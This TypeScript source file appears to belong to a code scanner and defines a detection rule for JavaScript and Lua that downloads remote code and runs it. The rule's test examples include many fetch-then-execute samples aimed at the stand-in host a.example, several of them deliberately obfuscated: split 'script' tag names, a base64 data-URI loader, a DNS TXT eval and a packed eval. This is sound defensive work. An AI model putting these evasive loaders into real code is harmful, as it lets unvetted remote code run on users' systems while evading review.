import { cutText } from '#analysis/cut-text.ts'
import { origin, textsOf } from '#analysis/flow/value.ts'
import { codeKinds, codeOf } from './code.ts'
import { hostsOf, isResource } from './hosts.ts'
import { markupSources } from './markup.ts'
import { defineRule, high, js, lua, medium } from './rule.ts'

const textMax = 80

export const runsDownloadedCode = defineRule({
  id: 'runs-downloaded-code',
  isLowerOnClient: true,
  on: codeKinds,
  test: (event, program) => {
    const remote = markupSources(event).find(({ kind }) => kind === 'script')
    if (remote)
      return remote.isLibrary
        ? medium(remote.host)
        : high(`${cutText(remote.url, textMax)}, run by a script element`)
    const code = codeOf(event)
    if (!code || (code.origins & origin.http) === 0) return undefined
    if (code.severity) return medium(code.runner)
    const own = [...textsOf(code.value), code.value.prefix ?? ''].find((text) => /^https?:\/\//i.test(text))
    const urls = program.urls.filter((one) => !hostsOf(one).every((host) => isResource(host, event)))
    const [url, ...others] = own === undefined ? urls : [own]
    // WebAssembly calls only what it is given, and libraries load theirs from beside them.
    const isModule = code.runner.startsWith('WebAssembly')
    if (url === undefined) return (isModule ? medium : high)(`run by ${code.runner}`)
    return high(
      `${cutText(url, textMax)}${others.length === 0 ? '' : ' or another URL'}, run by ${code.runner}`,
    )
  },
  examples: {
    found: [
      js(`const client = require('redis').createClient({ url: 'redis://a.example' })
^client.subscribe('orders', (text) => eval(text))`),
      js(
        `const url = new URL('https://a.example')
url.pathname = '/fonts/inter'
^const node = (tag, fields) => Object.assign(document.createElement(tag), fields)
document.head.append(node(['scr', 'ipt'].join(''), { src: url.href }))`,
        'page',
      ),
      js(`^import(new URL('/a.js', 'https://a.example').toString())`, 'page'),
      lua(`PerformHttpRequest('https://a.example', function(_, text)
^ local _, run = xpcall(error, load, text)
  run()
end)`),
      lua(`PerformHttpRequest('https://a.example', function(_, text)
^ xpcall(function() error(text) end, function(one) load(one)() end)
end)`),
      lua(`PerformHttpRequest('https://a.example', function(_, text)
  local _, failure = pcall(function() error({ run = load, text = text }) end)
^ failure.run(failure.text)()
end)`),
      lua(`local function ring(_ENV)
^ dial('https://a.example', function(_, text) pickup(text)() end)
end
ring({ dial = PerformHttpRequest, pickup = load })`),
      js(`const kind = Object.getPrototypeOf(async () => 1)
const make = Object.values(Object.getOwnPropertyDescriptors(kind))[0].value
^fetch('https://a.example').then(async (answer) => Reflect.construct(make, [await answer.text()])())`),
      lua(`local copy = {}
for name, value in pairs({ ask = PerformHttpRequest, run = load }) do
  if not copy[name] then copy[name] = value end
end
copy.ask('https://a.example', function(_, body)
^ copy.run(body)()
end)`),
      js(
        `const host = window.GetParentResourceName ? GetParentResourceName() : 'a.example'
^fetch(\`https://\${host}/\${name}\`).then((answer) => answer.text()).then(eval)`,
        'page',
      ),
      js(
        `const text = "importScripts('https://a.example/a.js')"
^new Worker(URL.createObjectURL(new Blob([text])))`,
        'page',
      ),
      js(`const make = Reflect.getPrototypeOf(async () => 0).constructor
^fetch(url).then((r) => r.text()).then((text) => Reflect.construct(make, ['require', text]))`),
      js(`^importScripts('https://a.example/a.js')`, 'page'),
      js(
        `const element = document.createElement('script')
^element.src = 'https://localhost.example/a.js'`,
        'page',
      ),
      js(`^Object.assign(document.createElement('script'), { src: 'https://a.example/a.js' })`, 'page'),
      js(
        `const element = document.createElement('scr' + 'ipt')
^element.src = ['https:', '', 'a.example', 'a.js'].join('/')`,
        'page',
      ),
      js(`^import('https://' + 'a.example' + '/a.js')`, 'page'),
      js(`^app.innerHTML += '<script src="https://a.example/a.js"></script>'`, 'page'),
      js(`^import { start } from 'https://a.example/a.js'`, 'page'),
      lua(`PerformHttpRequest('https://a.example', function(status, body)
^ load(body)()
end)`),
      js(`fetch('https://a.example').then((r) => r.text()).then((text) => {
^ eval(text)
})`),
      js(`const line = 'fetch("https://a.example").then((r) => r.text()).then(eval)'
^require('fs').writeFileSync(file, line + text)`),
      js(`^fetch('https://a.example').then((r) => r.text()).then((text) => setTimeout(text, 0))`),
      js(
        `^import('data:text/javascript;base64,ZmV0Y2goJ2h0dHBzOi8vYS5leGFtcGxlJykudGhlbigocikgPT4gci50ZXh0KCkpLnRoZW4oZXZhbCk=')`,
      ),
      js(`require('dns').resolveTxt('a.example', (error, rows) => {
^ eval(rows[0][0])
})`),
      js(
        `^eval(function(p,a,c,k,e,d){return p}('0 1=2.3(\\'4\\');1.5=\\'6://7.8/9.a\\';2.b.c(1);',13,13,'const|s|document|createElement|script|src|https|a|example|b|js|body|append'.split('|'),0,{}))`,
        'page',
      ),
    ],
    notFound: [
      js(`const client = require('redis').createClient({ url: 'redis://a.example' })
client.subscribe('orders', (text) => show(text))`),
      js(`import(new URL('/a.js', 'https://cdnjs.cloudflare.com').toString().slice(1))`, 'page'),
      lua(`PerformHttpRequest('https://a.example', function(_, text)
  xpcall(function() error(text) end, function(one) print(one) end)
end)`),
      lua(`local function ring(_ENV)
  dial('https://a.example', function(_, text) pickup(text) end)
end
ring({ dial = PerformHttpRequest, pickup = print })`),
      js(`const list = Object.values(Object.getOwnPropertyDescriptors({ a: print }))[0].value
fetch('https://a.example').then(async (answer) => list(await answer.text()))`),
      js(
        `const text = "importScripts('a.js')"
new Worker(URL.createObjectURL(new Blob([text])))`,
        'page',
      ),
      js(`fetch(url).then((r) => r.text()).then((text) => Reflect.construct(Map, [['text', text]]))`),
      js(`importScripts('a.js')`, 'page'),
      js(
        `const element = document.createElement('script')
element.src = isTest ? 'http://localhost:4173/a.js' : \`https://cfx-nui-\${name}/a.js\``,
        'page',
      ),
      js(`Object.assign(document.createElement('img'), { src: 'https://a.example/a.png' })`, 'page'),
      js(
        `const element = document.createElement('script')
element.src = 'https://cfx-nui-game/ui/jquery.js'`,
        'page',
      ),
      js(`import('./modules/' + name + '.js')`, 'page'),
      js(`app.innerHTML = '<script src="js/a.js"></script>'`, 'page'),
      js(`import { start } from './a.js'`, 'page'),
      lua(`PerformHttpRequest('https://a.example', function(status, body)
  print(json.decode(body).version)
end)`),
      js(`fetch('https://a.example').then((r) => r.json()).then((data) => { console.log(data.version) })`),
      js(`const line = 'fetch("https://a.example").then((r) => r.text()).then(eval)'
require('fs').writeFileSync('docs.md', line + text)`),
      js(`fetch('https://a.example').then((r) => setTimeout(() => show(r.status), 0))`),
      js(`require('dns').resolveTxt('a.example', (error, rows) => { console.log(rows) })`),
      js(
        `eval(function(p,a,c,k,e,d){return p}('0 1=2.3(\\'4\\');',5,5,'const|s|document|createElement|p'.split('|'),0,{}))`,
        'page',
      ),
    ],
  },
})
